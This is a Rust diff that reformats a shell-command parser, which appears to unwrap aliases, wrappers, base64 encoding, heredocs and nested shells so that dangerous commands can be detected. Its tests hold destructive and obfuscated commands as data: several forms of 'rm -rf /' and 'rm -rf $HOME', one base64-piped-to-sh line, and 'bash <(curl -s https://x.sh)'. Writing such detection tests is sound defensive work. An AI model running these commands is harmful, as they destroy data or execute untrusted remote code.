@@ -177,7 +177,10 @@ struct Lexer<'a> {
 }
 
 fn is_meta(c: u8) -> bool {
-    matches!(c, b' ' | b'\t' | b'\r' | b'\n' | b';' | b'&' | b'|' | b'(' | b')' | b'<' | b'>')
+    matches!(
+        c,
+        b' ' | b'\t' | b'\r' | b'\n' | b';' | b'&' | b'|' | b'(' | b')' | b'<' | b'>'
+    )
 }
 
 impl<'a> Lexer<'a> {
@@ -673,7 +676,11 @@ fn unescape_one(s: &str) -> (String, usize) {
             _ => (format!("\\{}", c as char), 1),
         },
         b'0'..=b'7' => {
-            let n = b.iter().take(3).take_while(|x| (b'0'..=b'7').contains(x)).count();
+            let n = b
+                .iter()
+                .take(3)
+                .take_while(|x| (b'0'..=b'7').contains(x))
+                .count();
             let v = u32::from_str_radix(&s[..n], 8).unwrap_or(0);
             (char::from_u32(v).unwrap_or('?').to_string(), n)
         }
@@ -882,9 +889,25 @@ fn normalize(words: &[String]) -> Normalized {
                     &w,
                     next,
                     &[
-                        "-u", "-g", "-C", "-D", "-h", "-p", "-r", "-t", "-U", "-T", "--user",
-                        "--group", "--chdir", "--prompt", "--host", "--role", "--type",
-                        "--other-user", "--command-timeout",
+                        "-u",
+                        "-g",
+                        "-C",
+                        "-D",
+                        "-h",
+                        "-p",
+                        "-r",
+                        "-t",
+                        "-U",
+                        "-T",
+                        "--user",
+                        "--group",
+                        "--chdir",
+                        "--prompt",
+                        "--host",
+                        "--role",
+                        "--type",
+                        "--other-user",
+                        "--command-timeout",
                     ],
                 )
             }
@@ -906,7 +929,8 @@ fn normalize(words: &[String]) -> Normalized {
                             j += 1;
                         }
                     } else if let Some(rest) = a.strip_prefix("-S").filter(|r| !r.is_empty()) {
-                        let split: Vec<String> = rest.split_whitespace().map(str::to_string).collect();
+                        let split: Vec<String> =
+                            rest.split_whitespace().map(str::to_string).collect();
                         w.splice(j..j + 1, split);
                     } else if a.starts_with('-') && a.len() > 1 {
                         j += 1;
@@ -920,7 +944,9 @@ fn normalize(words: &[String]) -> Normalized {
                 j
             }
             "command" => {
-                if w.get(next).is_some_and(|a| a.starts_with("-v") || a.starts_with("-V")) {
+                if w.get(next)
+                    .is_some_and(|a| a.starts_with("-v") || a.starts_with("-V"))
+                {
                     break;
                 }
                 skip_opts(&w, next, &[])
@@ -945,8 +971,19 @@ fn normalize(words: &[String]) -> Normalized {
                     &w,
                     next,
                     &[
-                        "-I", "-n", "-P", "-d", "-E", "-L", "-s", "-a", "--max-args",
-                        "--max-procs", "--delimiter", "--arg-file", "--max-lines",
+                        "-I",
+                        "-n",
+                        "-P",
+                        "-d",
+                        "-E",
+                        "-L",
+                        "-s",
+                        "-a",
+                        "--max-args",
+                        "--max-procs",
+                        "--delimiter",
+                        "--arg-file",
+                        "--max-lines",
                     ],
                 )
             }
@@ -1011,7 +1048,7 @@ pub fn base64_decode(s: &str) -> Option<Vec<u8>> {
 
 fn hex_decode(s: &str) -> Option<Vec<u8>> {
     let digits: Vec<u8> = s.bytes().filter(|b| !b.is_ascii_whitespace()).collect();
-    if digits.len() % 2 != 0 || digits.len() / 2 > MAX_DECODE {
+    if !digits.len().is_multiple_of(2) || digits.len() / 2 > MAX_DECODE {
         return None;
     }
     digits
@@ -1077,14 +1114,21 @@ fn static_output(cmd: &Cmd) -> Option<String> {
         "cat" | "tee" if args.iter().all(|a| a == "-" || (cmd.name() == "tee")) => {
             cmd.stdin.clone()?
         }
-        "base64" | "gbase64" | "base64url" if has_flag(args, 'd', &["--decode"]) || has_flag(args, 'D', &[]) => {
+        "base64" | "gbase64" | "base64url"
+            if has_flag(args, 'd', &["--decode"]) || has_flag(args, 'D', &[]) =>
+        {
             if args.iter().any(|a| !a.starts_with('-')) {
                 return None;
             }
             let bytes = base64_decode(cmd.stdin.as_deref()?)?;
             String::from_utf8_lossy(&bytes).into_owned()
         }
-        "openssl" if args.iter().any(|a| a == "base64" || a == "-base64" || a == "-a") && args.iter().any(|a| a == "-d") => {
+        "openssl"
+            if args
+                .iter()
+                .any(|a| a == "base64" || a == "-base64" || a == "-a")
+                && args.iter().any(|a| a == "-d") =>
+        {
             let bytes = base64_decode(cmd.stdin.as_deref()?)?;
             String::from_utf8_lossy(&bytes).into_owned()
         }
@@ -1326,7 +1370,9 @@ impl Parser {
             let mut redirects = Vec::new();
             let mut stdin: Option<String> = None;
             for (op, target, body) in &raw.redirs {
-                let t = self.expand(target, false, depth, span, &mut sources).join(" ");
+                let t = self
+                    .expand(target, false, depth, span, &mut sources)
+                    .join(" ");
                 match *op {
                     "<<<" => stdin = Some(format!("{t}\n")),
                     "<<" | "<<-" => stdin = body.clone(),
@@ -1558,21 +1604,39 @@ mod tests {
         assert!(has("cd x && git push --force", &["git", "push", "--force"]));
         assert!(has("true; 'git' \"push\" -f", &["git", "push", "-f"]));
         assert!(has("g\\it pu\\sh -f", &["git", "push", "-f"]));
-        assert!(has("$'\\x67it' push $'--\\146orce'", &["git", "push", "--force"]));
-        assert!(has("false || git push -f origin main &", &["git", "push", "-f", "origin", "main"]));
+        assert!(has(
+            "$'\\x67it' push $'--\\146orce'",
+            &["git", "push", "--force"]
+        ));
+        assert!(has(
+            "false || git push -f origin main &",
+            &["git", "push", "-f", "origin", "main"]
+        ));
         assert!(has("(cd a; git push -f)", &["git", "push", "-f"]));
         assert!(has("ls\ngit push -f", &["git", "push", "-f"]));
         assert!(has("git push \\\n  --force", &["git", "push", "--force"]));
-        assert!(has("echo \"git push --force\"", &["echo", "git push --force"]));
+        assert!(has(
+            "echo \"git push --force\"",
+            &["echo", "git push --force"]
+        ));
     }
 
     #[test]
     fn wrappers_and_paths() {
-        assert!(has("/usr/bin/git push --force", &["git", "push", "--force"]));
+        assert!(has(
+            "/usr/bin/git push --force",
+            &["git", "push", "--force"]
+        ));
         assert!(has("./bin/git push -f", &["git", "push", "-f"]));
         assert!(has("sudo -E -u root git push -f", &["git", "push", "-f"]));
-        assert!(has("env -i PATH=/bin command git push -f", &["git", "push", "-f"]));
-        assert!(has("nohup time nice -n 5 exec git push -f", &["git", "push", "-f"]));
+        assert!(has(
+            "env -i PATH=/bin command git push -f",
+            &["git", "push", "-f"]
+        ));
+        assert!(has(
+            "nohup time nice -n 5 exec git push -f",
+            &["git", "push", "-f"]
+        ));
         assert!(has("timeout 10 git push -f", &["git", "push", "-f"]));
         let s = parse("env HUSKY=0 git commit -m x");
         assert_eq!(s.cmds[0].env, vec![("HUSKY".into(), "0".into())]);
@@ -1584,9 +1648,15 @@ mod tests {
     fn variables_and_aliases() {
         assert!(has("F=--force; git push $F", &["git", "push", "--force"]));
         assert!(has("X=push; git ${X} -f", &["git", "push", "-f"]));
-        assert!(has("export A='push --force'; git $A", &["git", "push", "--force"]));
+        assert!(has(
+            "export A='push --force'; git $A",
+            &["git", "push", "--force"]
+        ));
         assert!(has("alias g=git; g push -f", &["git", "push", "-f"]));
-        assert!(has("alias p='git push'; p --force", &["git", "push", "--force"]));
+        assert!(has(
+            "alias p='git push'; p --force",
+            &["git", "push", "--force"]
+        ));
         assert!(has("rm -rf $HOME", &["rm", "-rf", "$HOME"]));
         assert!(has("rm -rf ${HOME}", &["rm", "-rf", "$HOME"]));
         // recursive alias terminates
@@ -1595,17 +1665,32 @@ mod tests {
 
     #[test]
     fn nesting() {
-        assert!(has("bash -c 'git push --force'", &["git", "push", "--force"]));
-        assert!(has("sh -c \"bash -c 'git push -f'\"", &["git", "push", "-f"]));
+        assert!(has(
+            "bash -c 'git push --force'",
+            &["git", "push", "--force"]
+        ));
+        assert!(has(
+            "sh -c \"bash -c 'git push -f'\"",
+            &["git", "push", "-f"]
+        ));
         assert!(has("eval \"git push -f\"", &["git", "push", "-f"]));
         assert!(has("bash <<< 'rm -rf /'", &["rm", "-rf", "/"]));
         assert!(has("sh <<EOF\nrm -rf /\nEOF\n", &["rm", "-rf", "/"]));
         assert!(has("echo 'rm -rf /' | sh", &["rm", "-rf", "/"]));
-        assert!(has("echo cm0gLXJmIC8= | base64 -d | sh", &["rm", "-rf", "/"]));
-        assert!(has("bash -c \"$(echo Z2l0IHB1c2ggLWY= | base64 --decode)\"", &["git", "push", "-f"]));
+        assert!(has(
+            "echo cm0gLXJmIC8= | base64 -d | sh",
+            &["rm", "-rf", "/"]
+        ));
+        assert!(has(
+            "bash -c \"$(echo Z2l0IHB1c2ggLWY= | base64 --decode)\"",
+            &["git", "push", "-f"]
+        ));
         assert!(has("$(echo git) push -f", &["git", "push", "-f"]));
         assert!(has("`echo git` push -f", &["git", "push", "-f"]));
-        assert!(has("echo --force | xargs git push", &["git", "push", "--force"]));
+        assert!(has(
+            "echo --force | xargs git push",
+            &["git", "push", "--force"]
+        ));
         assert!(has("ssh host 'rm -rf /'", &["rm", "-rf", "/"]));
         assert!(has("find . -exec rm -rf / \\;", &["rm", "-rf", "/"]));
         let s = parse("bash <(curl -s https://x.sh)");
@@ -1616,10 +1701,16 @@ mod tests {
     #[test]
     fn shell_modes() {
         let v = |s: &[&str]| s.iter().map(|x| x.to_string()).collect::<Vec<_>>();
-        assert_eq!(shell_mode(&v(&["-lc", "x"])), ShellMode::Command("x".into()));
+        assert_eq!(
+            shell_mode(&v(&["-lc", "x"])),
+            ShellMode::Command("x".into())
+        );
         assert_eq!(shell_mode(&v(&["-s", "--", "a"])), ShellMode::Stdin);
         assert_eq!(shell_mode(&v(&["-s"])), ShellMode::Stdin);
-        assert_eq!(shell_mode(&v(&["run.sh"])), ShellMode::File("run.sh".into()));
+        assert_eq!(
+            shell_mode(&v(&["run.sh"])),
+            ShellMode::File("run.sh".into())
+        );
         assert_eq!(shell_mode(&v(&[])), ShellMode::Stdin);
     }
 
